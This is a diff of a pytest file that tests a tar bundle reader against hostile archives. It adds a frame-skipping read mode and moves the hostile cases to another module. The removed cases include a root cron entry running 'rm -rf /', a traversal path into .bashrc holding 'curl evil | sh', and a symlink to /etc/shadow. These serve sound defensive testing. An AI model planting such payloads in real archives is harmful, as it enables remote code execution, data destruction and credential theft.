@@ -3,277 +3,32 @@ the reader writes nothing outside the folder it was given."""
 
 from __future__ import annotations
 
-import io
 import json
-import tarfile
-from collections.abc import Callable
 from pathlib import Path
 
-import pyarrow as pa
-import pyarrow.compute as pc
 import pytest
 
-from tests.bundlekit import assemble, edit_table, explode, refresh_files, tarinfo, write_small
-from worktape.bundle import BundleError, Limits, Reason, read_bundle
-
-Case = Callable[[dict, dict[str, bytes], bytes], bytes]
-CASES: dict[str, tuple[Reason, Case, Limits]] = {}
-LOADER_ONLY = {Reason.CONFLICT, Reason.KEY_MISMATCH}
-
-
-DEFAULT_LIMITS = Limits()
-
-
-def case(reason: Reason, *, name: str | None = None, limits: Limits = DEFAULT_LIMITS):
-    def register(fn: Case) -> Case:
-        CASES[name or reason.value] = (reason, fn, limits)
-        return fn
-
-    return register
-
-
-def frame_name(members: dict[str, bytes]) -> str:
-    return next(n for n in members if n.startswith("screenshots/"))
-
-
-@case(Reason.NOT_A_TAR)
-def _(m, mem, raw):
-    return b"this is not a tar archive, just some text\n" * 40
-
-
-@case(Reason.TRUNCATED)
-def _(m, mem, raw):
-    return raw[: len(raw) // 2]
-
-
-@case(Reason.TRUNCATED, name="truncated_empty")
-def _(m, mem, raw):
-    return b""
-
-
-@case(Reason.TRUNCATED, name="truncated_at_member_boundary")
-def _(m, mem, raw):
-    # a complete last member but no end-of-archive blocks: cut right after it
-    data = assemble(m, mem)
-    with tarfile.open(fileobj=io.BytesIO(data)) as tar:
-        last = tar.getmembers()[-1]
-    end = last.offset_data + ((last.size + 511) // 512) * 512
-    return data[:end]
-
-
-@case(Reason.TRAILING_DATA)
-def _(m, mem, raw):
-    return assemble(m, mem) + b"\x01" * 512
-
-
-@case(Reason.TOO_LARGE, limits=Limits(max_bytes=4096))
-def _(m, mem, raw):
-    return raw
-
-
-@case(Reason.TOO_MANY_MEMBERS, limits=Limits(max_members=3))
-def _(m, mem, raw):
-    return raw
-
-
-@case(Reason.ABSOLUTE_PATH)
-def _(m, mem, raw):
-    mem["/etc/cron.d/evil"] = b"* * * * * root rm -rf /"
-    refresh_files(m, mem)
-    return assemble(m, mem)
-
-
-@case(Reason.PARENT_PATH)
-def _(m, mem, raw):
-    mem["screenshots/../../../home/user/.bashrc"] = b"curl evil | sh"
-    refresh_files(m, mem)
-    return assemble(m, mem)
-
-
-@case(Reason.LINK_MEMBER)
-def _(m, mem, raw):
-    name = frame_name(mem)
-    del mem[name]
-    return assemble(
-        m, mem, extra=[(tarinfo(name, kind=tarfile.SYMTYPE, linkname="/etc/shadow"), b"")]
-    )
-
-
-@case(Reason.LINK_MEMBER, name="hard_link_member")
-def _(m, mem, raw):
-    name = frame_name(mem)
-    del mem[name]
-    return assemble(
-        m, mem, extra=[(tarinfo(name, kind=tarfile.LNKTYPE, linkname="events.parquet"), b"")]
-    )
-
-
-@case(Reason.SPECIAL_MEMBER)
-def _(m, mem, raw):
-    return assemble(m, mem, extra=[(tarinfo("screenshots/dev", kind=tarfile.CHRTYPE), b"")])
-
-
-@case(Reason.SPECIAL_MEMBER, name="fifo_member")
-def _(m, mem, raw):
-    return assemble(m, mem, extra=[(tarinfo("pipe", kind=tarfile.FIFOTYPE), b"")])
-
-
-@case(Reason.BAD_MEMBER_NAME)
-def _(m, mem, raw):
-    mem["screenshots//odd.webp"] = b"x"
-    refresh_files(m, mem)
-    return assemble(m, mem)
-
-
-@case(Reason.DUPLICATE_MEMBER)
-def _(m, mem, raw):
-    return assemble(
-        m,
-        mem,
-        extra=[(tarinfo("events.parquet", len(mem["events.parquet"])), mem["events.parquet"])],
-    )
-
-
-@case(Reason.MISSING_MEMBER)
-def _(m, mem, raw):
-    del mem[frame_name(mem)]
-    return assemble(m, mem)
-
-
-@case(Reason.UNLISTED_MEMBER)
-def _(m, mem, raw):
-    mem["notes.txt"] = b"smuggled"
-    return assemble(m, mem)
-
-
-@case(Reason.SIZE_MISMATCH)
-def _(m, mem, raw):
-    m["files"][-1]["bytes"] += 1
-    return assemble(m, mem)
-
-
-@case(Reason.CHECKSUM_MISMATCH)
-def _(m, mem, raw):
-    name = frame_name(mem)
-    mem[name] = b"X" + mem[name][1:]
-    return assemble(m, mem)
-
-
-@case(Reason.MISSING_MANIFEST)
-def _(m, mem, raw):
-    return assemble(m, mem, manifest_first=False)
-
-
-@case(Reason.BAD_JSON)
-def _(m, mem, raw):
-    return assemble(b'{"format": "worktape.bundle", oops', mem)
-
-
-@case(Reason.BAD_MANIFEST)
-def _(m, mem, raw):
-    del m["consent"]
-    return assemble(m, mem)
-
-
-@case(Reason.WRONG_FORMAT)
-def _(m, mem, raw):
-    m["format"] = "someone.elses.format"
-    return assemble(m, mem)
-
-
-@case(Reason.UNSUPPORTED_VERSION)
-def _(m, mem, raw):
-    m["format_version"] = "2.0"
-    return assemble(m, mem)
-
-
-@case(Reason.COUNT_MISMATCH)
-def _(m, mem, raw):
-    m["counts"]["events"] += 1
-    return assemble(m, mem)
-
-
-@case(Reason.BAD_PARQUET)
-def _(m, mem, raw):
-    mem["events.parquet"] = b"PAR1 but not really parquet"
-    refresh_files(m, mem)
-    return assemble(m, mem)
-
-
-@case(Reason.BAD_SCHEMA)
-def _(m, mem, raw):
-    edit_table(mem, "events.parquet", lambda t: t.drop_columns(["kind"]))
-    refresh_files(m, mem)
-    return assemble(m, mem)
-
-
-@case(Reason.BAD_SCHEMA, name="bad_schema_wrong_type")
-def _(m, mem, raw):
-    edit_table(
-        mem,
-        "events.parquet",
-        lambda t: t.set_column(t.schema.get_field_index("x"), "x", pa.array(["left"] * t.num_rows)),
-    )
-    refresh_files(m, mem)
-    return assemble(m, mem)
-
-
-@case(Reason.SEQ_GAP)
-def _(m, mem, raw):
-    edit_table(
-        mem,
-        "events.parquet",
-        lambda t: t.set_column(
-            0, "seq", pa.array([i + (i >= 3) for i in range(t.num_rows)], pa.int64())
-        ),
-    )
-    refresh_files(m, mem)
-    return assemble(m, mem)
-
-
-@case(Reason.TS_OUT_OF_WINDOW)
-def _(m, mem, raw):
-    def shift(t: pa.Table) -> pa.Table:
-        ts = t["ts"].to_pylist()
-        ts[-1] = ts[-1].replace(hour=ts[-1].hour + 2)
-        return t.set_column(1, "ts", pa.array(ts, t.schema.field("ts").type))
-
-    edit_table(mem, "events.parquet", shift)
-    refresh_files(m, mem)
-    return assemble(m, mem)
-
-
-@case(Reason.UNKNOWN_KIND)
-def _(m, mem, raw):
-    edit_table(
-        mem,
-        "events.parquet",
-        lambda t: t.set_column(2, "kind", pc.replace_substring(t["kind"], "key_down", "teleport")),
-    )
-    refresh_files(m, mem)
-    return assemble(m, mem)
-
-
-@case(Reason.DANGLING_SCREENSHOT)
-def _(m, mem, raw):
-    def dangle(t: pa.Table) -> pa.Table:
-        sids = t["screenshot_id"].to_pylist()
-        sids[sids.index(next(s for s in sids if s))] = "nonexistent-frame"
-        return t.set_column(
-            t.schema.get_field_index("screenshot_id"), "screenshot_id", pa.array(sids, pa.string())
-        )
-
-    edit_table(mem, "events.parquet", dangle)
-    refresh_files(m, mem)
-    return assemble(m, mem)
-
-
-@case(Reason.DUPLICATE_SCREENSHOT)
-def _(m, mem, raw):
-    edit_table(mem, "screenshots.parquet", lambda t: pa.concat_tables([t, t.slice(0, 1)]))
-    m["counts"]["screenshots"] += 1
-    refresh_files(m, mem)
-    return assemble(m, mem)
+from tests.bundlekit import explode, write_small
+from tests.hostile_cases import CASES, LOADER_ONLY
+from worktape.bundle import BundleError, Reason, read_bundle
+
+# what lies past the first frame, a reader that skips frames cannot see
+SEEN_ONLY_IN_FRAMES = {
+    Reason.TRUNCATED,
+    Reason.TRAILING_DATA,
+    Reason.TOO_LARGE,
+    Reason.MISSING_MEMBER,
+    Reason.CHECKSUM_MISMATCH,
+    Reason.LINK_MEMBER,
+    Reason.SPECIAL_MEMBER,
+    Reason.UNLISTED_MEMBER,
+    Reason.SIZE_MISMATCH,
+    Reason.DUPLICATE_MEMBER,
+    Reason.BAD_MEMBER_NAME,
+    Reason.ABSOLUTE_PATH,
+    Reason.PARENT_PATH,
+    Reason.TOO_MANY_MEMBERS,
+}
 
 
 def test_every_reader_reason_has_a_hostile_case() -> None:
@@ -292,11 +47,17 @@ def test_hostile_bundle_is_rejected_with_its_reason(name: str, tmp_path: Path) -
     out = tmp_path / "extract"
     out.mkdir()
     before = sorted(p.name for p in tmp_path.iterdir())
-    for mode in ("verify", "extract"):
-        with pytest.raises(BundleError) as err:
-            read_bundle(bad, frames=mode, extract_to=out, limits=limits)  # type: ignore[arg-type]
-        assert err.value.reason is reason, err.value
-        assert err.value.message
+    for mode, dictionary in (("verify", False), ("extract", False), ("skip", True)):
+        try:
+            read_bundle(bad, frames=mode, extract_to=out, limits=limits, dictionary=dictionary)  # type: ignore[arg-type]
+        except BundleError as err:
+            assert err.message
+            if mode == "skip" and reason in SEEN_ONLY_IN_FRAMES:
+                continue  # rejected for the first fault visible before the frames
+            assert err.reason is reason, (mode, err)
+        else:
+            # a head-only read stops at the first frame and cannot see faults past it
+            assert mode == "skip" and reason in SEEN_ONLY_IN_FRAMES, mode
     # nothing was written anywhere but the extract folder, and nothing through a link
     assert sorted(p.name for p in tmp_path.iterdir()) == before
     for p in out.rglob("*"):
